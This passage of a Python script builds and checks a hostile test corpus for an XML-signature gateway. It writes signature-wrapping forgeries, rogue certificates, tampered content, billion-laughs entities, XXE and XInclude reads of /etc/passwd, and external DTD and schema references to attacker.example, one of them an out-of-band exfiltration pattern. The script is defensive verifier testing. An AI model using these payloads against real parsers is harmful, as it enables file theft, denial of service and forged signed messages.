          forge_dr(sign(dr, sig=template(refs=[reference(transforms=(
              transform(ENVELOPED),
              transform(XPATH, '<ds:XPath xmlns:env="%s">not(ancestor-or-self::env:Body)</ds:XPath>' % NS_ENV),
              transform(EXC_C14N)))]))))
    c.add("transform-xpath-filter2", 1, "SIG_TRANSFORM",
          "XPath-Filter2 subtract //env:Body: body unsigned, then forged (signature valid)",
          forge_dr(sign(dr, sig=template(refs=[reference(transforms=(
              transform(ENVELOPED),
              transform(XPATH2, '<dsig-xpath:XPath xmlns:dsig-xpath="%s" xmlns:env="%s" Filter="subtract">'
                                '//env:Body</dsig-xpath:XPath>' % (XPATH2, NS_ENV)),
              transform(EXC_C14N)))]))))
    c.add("transform-base64", 1, "SIG_TRANSFORM", "a base64 decoding transform between enveloped and C14N",
          once(signed_dr, transform(ENVELOPED) + "\n", transform(ENVELOPED) + "\n" + transform(BASE64) + "\n"))
    c.add("transform-enveloped-only", 1, "SIG_TRANSFORM",
          "only one transform (enveloped-signature, implicit C14N), validly signed",
          sign(dr, sig=template(refs=[reference(transforms=(transform(ENVELOPED),))])))
    c.add("transform-c14n-with-comments", 1, "SIG_TRANSFORM",
          "exclusive C14N WithComments as the second transform (validly signed)",
          sign(dr, sig=template(refs=[reference(transforms=(transform(ENVELOPED), transform(EXC_C14N_WC)))])))
    c.add("transform-three", 1, "SIG_TRANSFORM", "three transforms: enveloped, exc-C14N, exc-C14N (validly signed)",
          sign(dr, sig=template(refs=[reference(transforms=STD_TRANSFORMS + (transform(EXC_C14N),))])))
    c.add("transform-order-reversed", 1, "SIG_TRANSFORM", "C14N first, enveloped-signature second",
          once(signed_dr, "\n".join(STD_TRANSFORMS), "\n".join(reversed(STD_TRANSFORMS))))
    c.add("transform-c14n11", 1, "SIG_TRANSFORM", "C14N 1.1 as the second transform (validly signed)",
          sign(dr, sig=template(refs=[reference(transforms=(transform(ENVELOPED), transform(C14N11)))])))
    c.add("transforms-absent", 1, "SIG_TRANSFORM", "Reference without a Transforms element",
          once(signed_dr, element(signed_dr, "ds:Transforms") + "\n", ""))
    c.add("canonicalization-with-comments", 1, "SIG_ALGORITHM",
          "SignedInfo CanonicalizationMethod is exclusive C14N WithComments (validly signed)",
          sign(dr, sig=template(c14n=EXC_C14N_WC)))

    # ---- algorithms -------------------------------------------------------------------------------------
    c.add("algorithm-rsa-sha1", 1, "SIG_ALGORITHM", "SignatureMethod rsa-sha1 (validly signed)",
          sign(dr, sig=template(method=RSA_SHA1)))
    c.add("algorithm-digest-sha1", 1, "SIG_ALGORITHM", "DigestMethod sha1 (validly signed)",
          sign(dr, sig=template(refs=[reference(digest=SHA1)])))
    c.add("algorithm-digest-md5", 1, "SIG_ALGORITHM", "DigestMethod md5 (validly signed)",
          sign(dr, sig=template(refs=[reference(digest=MD5)])))
    hmac_key = write_tmp("key.hmac", b"the attacker knows this shared secret")
    c.add("algorithm-hmac-sha256", 1, "SIG_ALGORITHM",
          "SignatureMethod hmac-sha256 with HMACOutputLength and a KeyName (validly MACed with a guessable key)",
          xmlsec_sign(once(dr, "</env:Envelope>", template(
              method=HMAC_SHA256, method_body="<ds:HMACOutputLength>128</ds:HMACOutputLength>",
              keyinfo="<ds:KeyInfo>\n<ds:KeyName>hmac-key</ds:KeyName>\n</ds:KeyInfo>\n") + "</env:Envelope>"),
              hmac_key))
    dsa_params = os.path.join(TMP, "dsa-params.pem")
    dsa_key = os.path.join(TMP, "dsa.key.pem")
    run([OPENSSL, "genpkey", "-genparam", "-algorithm", "DSA", "-pkeyopt", "dsa_paramgen_bits:2048",
         "-out", dsa_params], "openssl genpkey DSA parameters")
    run([OPENSSL, "genpkey", "-paramfile", dsa_params, "-out", dsa_key], "openssl genpkey DSA key")
    c.add("algorithm-dsa-sha256", 1, "SIG_ALGORITHM",
          "SignatureMethod dsa-sha256 with the key in a DSAKeyValue (validly signed)",
          sign(dr, dsa_key, (), template(method=DSA_SHA256,
                                         keyinfo="<ds:KeyInfo>\n<ds:KeyValue/>\n</ds:KeyInfo>\n")),
          randomized=True)
    c.add("algorithm-unknown", 1, "SIG_ALGORITHM", "SignatureMethod with an unknown algorithm URI",
          once(signed_dr, RSA_SHA256, "urn:example:attacker:none"))
    c.add("algorithm-key-type-mismatch", 1, "SIG_ALGORITHM",
          "SignatureMethod changed to ecdsa-sha256 while the certificate key is RSA",
          once(signed_dr, RSA_SHA256, ECDSA_SHA256))

    # ---- KeyInfo ----------------------------------------------------------------------------------------
    c.add("keyinfo-keyvalue-only", 1, "SIG_KEYINFO",
          "KeyInfo carries only the attacker's RSAKeyValue (signed with the rogue key, no certificate)",
          sign(dr, "rogue.key.pem", (), template(keyinfo="<ds:KeyInfo>\n<ds:KeyValue/>\n</ds:KeyInfo>\n")))
    c.add("keyinfo-keyname-only", 1, "SIG_KEYINFO", "KeyInfo carries only a KeyName naming the Ludza gateway",
          replace_keyinfo(signed_dr, "<ds:KeyInfo>\n<ds:KeyName>gateway.ludza.example</ds:KeyName>\n</ds:KeyInfo>"))
    c.add("keyinfo-retrievalmethod", 1, "SIG_KEYINFO",
          "KeyInfo with a RetrievalMethod pointing at an http:// certificate",
          replace_keyinfo(signed_dr, '<ds:KeyInfo>\n<ds:RetrievalMethod URI="http://attacker.example/ludza.cer" '
                                     'Type="http://www.w3.org/2000/09/xmldsig#rawX509Certificate"/>\n</ds:KeyInfo>'))
    subject = cert_field("ludza.pem", "-subject")
    issuer = cert_field("ludza.pem", "-issuer")
    serial = str(int(cert_field("ludza.pem", "-serial"), 16))
    c.add("keyinfo-x509data-without-certificate", 1, "CERT_MISSING",
          "X509Data with only X509IssuerSerial and X509SubjectName of the Ludza certificate",
          replace_keyinfo(signed_dr, "<ds:KeyInfo>\n<ds:X509Data>\n<ds:X509IssuerSerial>\n<ds:X509IssuerName>%s"
                                     "</ds:X509IssuerName>\n<ds:X509SerialNumber>%s</ds:X509SerialNumber>\n"
                                     "</ds:X509IssuerSerial>\n<ds:X509SubjectName>%s</ds:X509SubjectName>\n"
                                     "</ds:X509Data>\n</ds:KeyInfo>" % (issuer, serial, subject)))
    c.add("keyinfo-empty", 1, "CERT_MISSING", "empty KeyInfo",
          replace_keyinfo(signed_dr, "<ds:KeyInfo/>"))
    c.add("keyinfo-absent", 1, "CERT_MISSING", "no KeyInfo at all",
          once(signed_dr, element(signed_dr, "ds:KeyInfo") + "\n", ""))
    rogue_keyvalue = element(sign(dr, "rogue.key.pem", (),
                                  template(keyinfo="<ds:KeyInfo>\n<ds:KeyValue/>\n</ds:KeyInfo>\n")), "ds:KeyValue")
    c.add("keyinfo-keyvalue-beside-x509data", 1, "SIG_KEYINFO",
          "the valid certificate chain plus an extra KeyValue of another key after it",
          once(signed_dr, "</ds:X509Data>\n", "</ds:X509Data>\n" + rogue_keyvalue + "\n"))
    c.add("keyinfo-two-x509data", 1, "SIG_KEYINFO", "two X509Data elements: the valid chain and the rogue certificate",
          once(signed_dr, "</ds:X509Data>\n",
               "</ds:X509Data>\n<ds:X509Data>\n" + x509_cert_elem(cert_b64("rogue.pem")) + "</ds:X509Data>\n"))
    c.add("keyinfo-two-end-entity-certificates", 1, "SIG_KEYINFO",
          "X509Data lists the Talsi certificate before the valid Ludza chain (which one is the signer?)",
          once(signed_dr, "<ds:X509Data>\n", "<ds:X509Data>\n" + x509_cert_elem(cert_b64("talsi.pem"))))
    c.add("keyinfo-x509data-foreign-child", 1, "SIG_KEYINFO", "X509Data holds an X509CRL next to the certificates",
          once(signed_dr, "</ds:X509Data>", "<ds:X509CRL>MIIB</ds:X509CRL>\n</ds:X509Data>"))

    # ---- certificates -----------------------------------------------------------------------------------
    bad_b64 = x509_cert_elem(cert_b64("ludza.pem"))
    bad_b64 = bad_b64[:200] + "!!!**not*base64**!!!" + bad_b64[200:]
    c.add("certificate-bad-base64", 1, "CERT_MALFORMED", "X509Certificate text is not base64",
          replace_keyinfo(signed_dr, "<ds:KeyInfo>\n<ds:X509Data>\n" + bad_b64 + "</ds:X509Data>\n</ds:KeyInfo>"))
    garbage = base64.b64encode(b"\x30\x82\x01\x00" + b"not a DER certificate" * 8).decode("ascii")
    c.add("certificate-not-der", 1, "CERT_MALFORMED", "X509Certificate is valid base64 of bytes that are not DER",
          replace_keyinfo(signed_dr, "<ds:KeyInfo>\n<ds:X509Data>\n" + x509_cert_elem(garbage)
                          + "</ds:X509Data>\n</ds:KeyInfo>"))
    c.add("certificate-truncated", 1, "CERT_MALFORMED", "the signer certificate cut short (DER truncated)",
          replace_keyinfo(signed_dr, "<ds:KeyInfo>\n<ds:X509Data>\n" + x509_cert_elem(cert_b64("ludza.pem")[:800])
                          + "</ds:X509Data>\n</ds:KeyInfo>"))
    c.add("certificate-missing-intermediate", 1, "CERT_UNTRUSTED",
          "signed by the valid Ludza key, KeyInfo holds only the leaf (issuing CA missing)",
          sign(dr, "ludza.key.pem", ("ludza.pem",)))
    c.add("certificate-self-signed", 1, "CERT_UNTRUSTED",
          "self-signed certificate with Ludza's exact subject and organizationIdentifier",
          sign(dr, "selfsigned-ludza.key.pem", ("selfsigned-ludza.pem",)))
    c.add("certificate-rogue-ca", 1, "CERT_UNTRUSTED",
          "Ludza's subject issued by an untrusted rogue CA, rogue CA certificate included in KeyInfo",
          sign(dr, "rogue.key.pem", ("rogue.pem", "rogue-ca.pem")))
    c.add("certificate-expired", 1, "CERT_EXPIRED", "signer certificate expired 2021-01-01",
          sign(dr, "expired.key.pem", ("expired.pem", "chain.pem")))
    c.add("certificate-not-yet-valid", 1, "CERT_NOT_YET_VALID", "signer certificate valid only from 2099-01-01",
          sign(dr, "notyet.key.pem", ("notyet.pem", "chain.pem")))
    c.add("certificate-revoked", 1, "CERT_REVOKED", "signer certificate listed in crl.pem (keyCompromise)",
          sign(dr, "revoked.key.pem", ("revoked.pem", "chain.pem")))
    c.add("certificate-no-signing-usage", 1, "CERT_KEY_USAGE",
          "signer certificate keyUsage is keyEncipherment only (no digitalSignature/nonRepudiation)",
          sign(dr, "nousage.key.pem", ("nousage.pem", "chain.pem")))
    c.add("certificate-client-only", 1, "CERT_KEY_USAGE",
          "signed with the Ludza IT-system client certificate (extendedKeyUsage clientAuth only, not a gateway)",
          sign(dr, "ludza-client.key.pem", ("ludza-client.pem", "chain.pem"), template(method=ECDSA_SHA256)),
          randomized=True)
    c.add("certificate-no-organization-identifier", 1, "CERT_ORG_ID",
          "trusted signer certificate without organizationIdentifier",
          sign(dr, "noorgid.key.pem", ("noorgid.pem", "chain.pem")))
    c.add("certificate-substituted", 1, "SIGNATURE_MISMATCH",
          "signed with the rogue key, KeyInfo carries the genuine Ludza certificate chain",
          replace_keyinfo(sign(dr, "rogue.key.pem", ("rogue.pem",)),
                          "<ds:KeyInfo>\n<ds:X509Data>\n" + ludza_chain_certs + "</ds:X509Data>\n</ds:KeyInfo>"))

    weak_key = write_tmp("weak-rsa1024.key.pem", weak_rsa_key_pem(1024, "gw-hostile: RSA-1024 signer"))
    c.add("certificate-rsa-1024", 1, "SIG_ALGORITHM",
          "trusted Ludza certificate (issuing CA) for an RSA-1024 key, validly signed with it",
          sign(dr, weak_key, (mint("rsa-1024", weak_key), "chain.pem")))
    c.add("certificate-sha1-signed", 1, "SIG_ALGORITHM",
          "Ludza certificate that the issuing CA signed with SHA-1 (sha1WithRSAEncryption)",
          sign(dr, "ludza.key.pem", (mint("sha1", pki("ludza.key.pem"), md="sha1"), "chain.pem")))
    c.add("certificate-without-key-usage", 1, "CERT_KEY_USAGE",
          "trusted Ludza certificate without any keyUsage extension",
          sign(dr, "ludza.key.pem", (mint("no-key-usage", pki("ludza.key.pem"),
                                          ext=LEAF_EXT.replace(LEAF_EXT.splitlines()[1] + "\n", "")), "chain.pem")))
    c.add("certificate-critical-unknown-extension", 1, "CERT_UNTRUSTED",
          "trusted Ludza certificate with an unknown critical extension",
          sign(dr, "ludza.key.pem", (mint("critical-ext", pki("ludza.key.pem"),
                                          ext=LEAF_EXT + "1.3.6.1.4.1.55555.1 = critical, ASN1:NULL\n"), "chain.pem")))
    c.add("certificate-organization-identifier-wrong-form", 1, "CERT_ORG_ID",
          "trusted certificate whose organizationIdentifier is LV90000017453 (not the eIDAS NTRLV- form)",
          sign(dr, "ludza.key.pem", (mint("orgid-form", pki("ludza.key.pem"),
                                          LUDZA_DN.replace("NTRLV-90000017453", "LV90000017453")), "chain.pem")))
    c.add("certificate-two-organization-identifiers", 1, "CERT_ORG_ID",
          "trusted certificate naming two organizationIdentifiers, Talsi's first and Ludza's second",
          sign(dr, "ludza.key.pem", (mint("orgid-twice", pki("ludza.key.pem"), LUDZA_DN.replace(
              "/organizationIdentifier=", "/organizationIdentifier=NTRLV-90009113532/organizationIdentifier=")),
              "chain.pem")))
    c.add("certificate-issued-by-root", 1, "CERT_CRL",
          "Ludza certificate issued directly by the root CA, for which no CRL is configured (revocation unknown)",
          sign(dr, "ludza.key.pem", (mint("by-root", pki("ludza.key.pem"), issuer="root-ca"),)))
    c.add("certificate-ca-signs", 1, "CERT_MISSING",
          "signed with the issuing CA's own key; KeyInfo holds only the CA certificate, no end-entity one",
          sign(dr, "issuing-ca.key.pem", ("issuing-ca.pem",)))
    visc_der = base64.b64decode(cert_b64("visc.pem"))
    patched = base64.b64encode(visc_der.replace(b"NTRLV-90001800413", b"NTRLV-90000017453")).decode("ascii")
    if patched == cert_b64("visc.pem"):
        die("could not patch the VISC certificate")
    c.add("certificate-patched-organization-identifier", 1, "CERT_UNTRUSTED",
          "signed by VISC; its certificate bytes patched to say NTRLV-90000017453 (the CA signature breaks)",
          replace_keyinfo(sign(dr, "visc.key.pem", ("visc.pem", "chain.pem")),
                          "<ds:KeyInfo>\n<ds:X509Data>\n" + x509_cert_elem(patched)
                          + x509_cert_elem(cert_b64("chain.pem")) + "</ds:X509Data>\n</ds:KeyInfo>"))
    c.add("keyinfo-too-many-certificates", 1, "LIMIT_NODES",
          "the valid chain followed by 7 more copies of the intermediate: 9 certificates (limit 8)",
          once(signed_dr, "</ds:X509Data>", x509_cert_elem(cert_b64("chain.pem")) * 7 + "</ds:X509Data>"))

    # ---- identity binding -------------------------------------------------------------------------------
    c.add("identity-talsi-signs-as-ludza", 1, "SENDER_MISMATCH",
          "correctly signed with Talsi's valid certificate, but Sender is Ludza 90000017453",
          sign(dec, "talsi.key.pem", ("talsi.pem", "chain.pem"), template(method=ECDSA_SHA256)), randomized=True)
    c.add("identity-visc-signs-as-ludza", 1, "SENDER_MISMATCH",
          "correctly signed with the centre's (VISC) valid certificate, but Sender is Ludza",
          sign(dr, "visc.key.pem", ("visc.pem", "chain.pem")))

    # ---- content tampering ------------------------------------------------------------------------------
    c.add("tamper-latvian-text", 1, "DIGEST_MISMATCH",
          "decision resolution changed after signing: Iesaistīties -> Neiesaistīties",
          once(signed_dec, "<Text>Iesaistīties projekta", "<Text>Neiesaistīties projekta"))
    c.add("tamper-sender", 1, "DIGEST_MISMATCH", "Sender changed from Ludza to Talsi after Ludza signed",
          once(signed_dr, "<env:Sender>90000017453</env:Sender>", "<env:Sender>90009113532</env:Sender>"))
    forged_digest = element(sign(forge_dr(dr)), "ds:DigestValue")
    c.add("tamper-digest-recomputed", 1, "SIGNATURE_MISMATCH",
          "counts forged and the DigestValue recomputed for them; the SignatureValue no longer fits SignedInfo",
          once(forge_dr(signed_dr), element(signed_dr, "ds:DigestValue"), forged_digest))
    sv = element(signed_dr, "ds:SignatureValue")
    sv_body = sv[len("<ds:SignatureValue>"):]
    c.add("tamper-signature-value", 1, "SIGNATURE_MISMATCH", "first bytes of the SignatureValue changed",
          once(signed_dr, sv, "<ds:SignatureValue>AAAAAAAA" + sv_body[8:]))
    c.add("signature-value-empty", 1, "SIGNATURE_MISMATCH", "empty SignatureValue",
          once(signed_dr, sv, "<ds:SignatureValue></ds:SignatureValue>"))

    # ---- signature element structure --------------------------------------------------------------------
    c.add("signature-foreign-attribute", 1, "SIG_STRUCTURE", "ds:Signature carries an unexpected attribute",
          once(signed_dr, '<ds:Signature xmlns:ds="%s">' % NS_DS,
               '<ds:Signature xmlns:ds="%s" Target="urn:example:other">' % NS_DS))
    c.add("signedinfo-without-c14n-method", 1, "SIG_STRUCTURE", "SignedInfo without CanonicalizationMethod",
          once(signed_dr, '<ds:CanonicalizationMethod Algorithm="%s"/>\n' % EXC_C14N, ""))
    c.add("signedinfo-twice", 1, "SIG_STRUCTURE", "two SignedInfo elements, the second with a forged digest",
          once(signed_dr, "</ds:SignedInfo>\n",
               "</ds:SignedInfo>\n" + once(element(signed_dr, "ds:SignedInfo"), element(signed_dr, "ds:DigestValue"),
                                          forged_digest) + "\n"))
    c.add("keyinfo-before-signature-value", 1, "SIG_STRUCTURE", "KeyInfo placed before SignatureValue",
          once(signed_dr.replace(element(signed_dr, "ds:KeyInfo") + "\n", ""), sv,
               element(signed_dr, "ds:KeyInfo") + "\n" + sv))
    c.add("signature-value-absent", 1, "SIG_STRUCTURE", "no SignatureValue element",
          once(signed_dr, sv + "\n", ""))

    # ---- parser: DTD, entities, XInclude, xsi ------------------------------------------------------------
    decl = '<?xml version="1.0" encoding="UTF-8"?>\n'
    body_dr = without_decl(signed_dr)
    lol = ('<!DOCTYPE env:Envelope [\n<!ENTITY lol "lol">\n'
           + "".join('<!ENTITY lol%d "%s">\n' % (i, ("&lol%d;" % (i - 1) if i > 1 else "&lol;") * 10)
                     for i in range(1, 10))
           + "]>\n")
    c.add("dtd-billion-laughs", 1, "XML_DTD", "DOCTYPE with nested internal entities (billion laughs) used in Subject",
          decl + lol + once(body_dr, "<env:Subject>", "<env:Subject>&lol9;"))
    c.add("dtd-xxe-file", 1, "XML_DTD", "DOCTYPE with an external SYSTEM entity file:///etc/passwd used in Subject",
          decl + '<!DOCTYPE env:Envelope [\n<!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n'
          + once(body_dr, "<env:Subject>", "<env:Subject>&xxe;"))
    c.add("dtd-external-subset", 1, "XML_DTD", "DOCTYPE naming an external DTD on http://",
          decl + '<!DOCTYPE env:Envelope SYSTEM "http://attacker.example/envelope.dtd">\n' + body_dr)
    c.add("dtd-parameter-entity-oob", 1, "XML_DTD",
          "DOCTYPE with an external parameter entity (out-of-band exfiltration pattern)",
          decl + '<!DOCTYPE env:Envelope [\n<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd">\n%remote;\n]>\n'
          + body_dr)
    c.add("dtd-default-attribute", 1, "XML_DTD",
          "DOCTYPE whose ATTLIST would default an attribute onto env:Envelope",
          decl + '<!DOCTYPE env:Envelope [\n<!ATTLIST env:Envelope Id ID "msg">\n]>\n' + body_dr)
    xi = ('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>')
    c.add("xinclude", 1, "SCHEMA_INVALID",
          "xi:include of file:///etc/passwd inside the payload, validly signed (must not be expanded)",
          sign(once(dr, "      <ReportingOrganisation>", "      " + xi + "\n      <ReportingOrganisation>")))
    xsi = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
    c.add("xsi-type", 1, "XSI_ATTR", "xsi:type on the payload, validly signed (prefix in a value is unsigned by exc-C14N)",
          sign(once(dr, '<DataReport xmlns="urn:lv:skola-kopiena:datareport:v1"',
                    '<DataReport %s xmlns:t="urn:lv:skola-kopiena:datareport:v1" xsi:type="t:DataReportType" '
                    'xmlns="urn:lv:skola-kopiena:datareport:v1"' % xsi)))
    c.add("xsi-schema-location", 1, "XSI_ATTR",
          "xsi:schemaLocation on the envelope pointing at an attacker's XSD, validly signed",
          sign(once(dr, '<env:Envelope xmlns:env="%s">' % NS_ENV,
                    '<env:Envelope xmlns:env="%s" %s xsi:schemaLocation="%s http://attacker.example/env.xsd">'
                    % (NS_ENV, xsi, NS_ENV))))

    # ---- parser limits ----------------------------------------------------------------------------------
    deep = "".join("<d%d>" % i for i in range(40)) + "x" + "".join("</d%d>" % i for i in reversed(range(40)))
    c.add("limit-depth", 1, "LIMIT_DEPTH", "40 nested elements inside the payload (limit 32)",
          once(signed_dr, "      <ReportingOrganisation>", "      " + deep + "\n      <ReportingOrganisation>"))
    attrs = " ".join('a%d="%d"' % (i, i) for i in range(20))
    c.add("limit-attributes", 1, "LIMIT_ATTRS", "20 attributes on one element (limit 16)",
          once(signed_dr, "<ReportingOrganisation>", "<ReportingOrganisation %s>" % attrs))
    long_name = "Indikators" + "x" * 190
    c.add("limit-name", 1, "LIMIT_NAME", "an element name of 200 bytes (limit 128)",
          once(signed_dr, "      <ReportingOrganisation>",
               "      <%s>1</%s>\n      <ReportingOrganisation>" % (long_name, long_name)))
    para = "Pašvaldība apliecina, ka dati ir pareizi. "           # 45 bytes in UTF-8
    big = (para * (263000 // len(para.encode("utf-8")) + 1))
    c.add("limit-text", 1, "LIMIT_TEXT", "a single text node of 263 KB of Latvian text (limit 256 KiB)",
          once(signed_dr, "<env:Subject>", "<env:Subject>" + big))

    # ---- malformed input --------------------------------------------------------------------------------
    c.add("malformed-truncated", 1, "XML_MALFORMED", "signed message cut off in the middle of the signature",
          signed_dr[:signed_dr.index("<ds:SignatureValue>") + 40])
    c.add("malformed-mismatched-tag", 1, "XML_MALFORMED", "end tag does not match the start tag",
          once(signed_dr, "</env:Subject>", "</env:Subjekts>"))
    c.add("malformed-two-roots", 1, "XML_MALFORMED", "a second root element after the signed envelope",
          signed_dr + without_decl(forged_dr_env) + "\n")
    c.add("malformed-invalid-utf8", 1, "XML_MALFORMED", "declared UTF-8 but the Latvian text is in ISO-8859-13 bytes",
          signed_dr.encode("utf-8").replace("uzraudzības".encode("utf-8"), "uzraudzības".encode("iso-8859-13"), 1))
    iso = once(dec, 'encoding="UTF-8"', 'encoding="ISO-8859-13"')
    iso_signed = xmlsec_sign(once(iso, "</env:Envelope>", template() + "</env:Envelope>"), "ludza.key.pem",
                             ("ludza.pem", "chain.pem"), encoding="iso-8859-13")
    c.add("encoding-iso-8859-13", 1, "XML_MALFORMED",
          "well-formed and validly signed, but declared and encoded ISO-8859-13 (messages are UTF-8)",
          iso_signed)

    c.add("encoding-utf16-bom", 1, "XML_MALFORMED",
          "the validly signed message re-encoded as UTF-16 with a byte order mark and no XML declaration",
          without_decl(signed_dr).encode("utf-16"))

    # ---- message model ----------------------------------------------------------------------------------
    c.add("type-mismatch", 1, "TYPE_MISMATCH",
          "validly signed by Ludza, MessageType Decision but the payload is a DataReport",
          sign(once(dr, "<env:MessageType>DataReport</env:MessageType>",
                    "<env:MessageType>Decision</env:MessageType>")))
    c.add("unknown-root-namespace", 1, "SCHEMA_UNKNOWN", "validly signed envelope in an unknown namespace (v2)",
          sign(dr.replace(NS_ENV, "urn:lv:skola-kopiena:envelope:v2")))
    c.add("root-is-payload", 1, "SCHEMA_UNKNOWN",
          "a bare DataReport payload as root, with a valid enveloped signature as its last child",
          xmlsec_sign(decl + once(element(dr, "DataReport"), "</DataReport>", template() + "</DataReport>") + "\n",
                      "ludza.key.pem", ("ludza.pem", "chain.pem")))
    c.add("text-after-signature", 1, "SCHEMA_INVALID", "text content after the signature in the envelope",
          once(signed_dr, "</ds:Signature></env:Envelope>", "</ds:Signature>Apstiprināts.</env:Envelope>"))
    c.add("header-invalid-recipient", 1, "SCHEMA_INVALID",
          "validly signed, but the Recipient is not an 11-digit registration number",
          sign(once(dr, "<env:Recipient>90001800413</env:Recipient>",
                    "<env:Recipient>9000180041X</env:Recipient>")))

    # ---- positive controls ------------------------------------------------------------------------------
    c.add("control-signed-datareport", 0, "VERIFIED", "positive control: the base message, signed by gateway sign",
          signed_dr)
    c.add("comment-in-signed-text", 0, "VERIFIED",
          "positive control: a comment spliced into signed Latvian text (C14N drops it, whole text is read)",
          once(signed_dec, "Ludzās novada pašvaldības dome", "Ludzās novada <!-- ievietots -->pašvaldības dome"))
    c.add("comment-splits-sender", 0, "VERIFIED",
          "positive control: a comment splits the signed Sender 90000<!---->017453; the whole text is read",
          once(signed_dr, "<env:Sender>90000017453</env:Sender>", "<env:Sender>90000<!---->017453</env:Sender>"))
    c.add("cdata-in-signed-sender", 0, "VERIFIED",
          "positive control: the signed Sender rewritten as a CDATA section (same canonical form)",
          once(signed_dr, "<env:Sender>90000017453</env:Sender>", "<env:Sender><![CDATA[90000017453]]></env:Sender>"))
    c.add("control-x509-hints", 0, "VERIFIED",
          "positive control: X509IssuerSerial (48-digit serial) and X509SubjectName hints beside the certificates",
          once(signed_dr, "<ds:X509Data>\n",
               "<ds:X509Data>\n<ds:X509IssuerSerial>\n<ds:X509IssuerName>%s</ds:X509IssuerName>\n"
               "<ds:X509SerialNumber>%s</ds:X509SerialNumber>\n</ds:X509IssuerSerial>\n"
               "<ds:X509SubjectName>%s</ds:X509SubjectName>\n" % (issuer, serial, subject)))
    c.add("control-signed-ecdsa-p384", 0, "VERIFIED",
          "positive control: signed with the Ludza ECDSA P-384 certificate",
          sign(dr, "ludza-p384.key.pem", ("ludza-p384.pem", "chain.pem"),
               template(method="http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha384",
                        refs=[reference(digest="http://www.w3.org/2001/04/xmldsig-more#sha384")])),
          randomized=True)

    # XAdES B-B (DESIGN §3, docs/verification.md 2a and 5a): signed with xmlsec1 from a template with a fixed
    # Id and SigningTime, so that the files are reproducible; IssuerSerialV2 as the gateway writes it
    xades_control = build_xades(c, dr, gw_signed_dec)
    del xades_control

    # not a corpus file: a CRL of the root revoking the issuing CA, for run.sh's revoked-intermediate test
    root_crl_revoking_issuing_ca(os.path.join(HERE, "root-crl-revokes-issuing-ca.pem"))


def check(c):
    """Run the gateway over what was written and print a table: a discrepancy is not an error here."""
    bad = 0
    for i, (slug, exit_code, code, _desc, _content) in enumerate(c.entries):
        name = "%03d-%s.xml" % (i + 1, slug)
        p = subprocess.run([GATEWAY, "verify", "-q", "--trust", pki("trust.pem"), "--crl", pki("crl.pem"),
                            os.path.join(HERE, name)], stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
        out = p.stdout.decode("utf-8", errors="replace")
        m = re.search(r"\[([A-Z_]+)\]", out)
        got = m.group(1) if m else ("VERIFIED" if "VERIFIED" in out else "?")
        ok = p.returncode == exit_code and got == code
        bad += not ok
        print("%s %-50s want %d %-20s got %d %s" % ("ok  " if ok else "DIFF", name, exit_code, code, p.returncode, got))
    print("%d files, %d differ from EXPECT" % (len(c.entries), bad))


def main():
    for tool in (XMLSEC1, OPENSSL):
        if shutil.which(tool) is None:
            die("%s not found" % tool)
    if not os.access(GATEWAY, os.X_OK):
        die("%s not built (make build/gateway)" % GATEWAY)
    try:
        c = Corpus()
        build(c)
        c.write()
        check(c)
    finally:
        shutil.rmtree(TMP, ignore_errors=True)


if __name__ == "__main__":
    main()
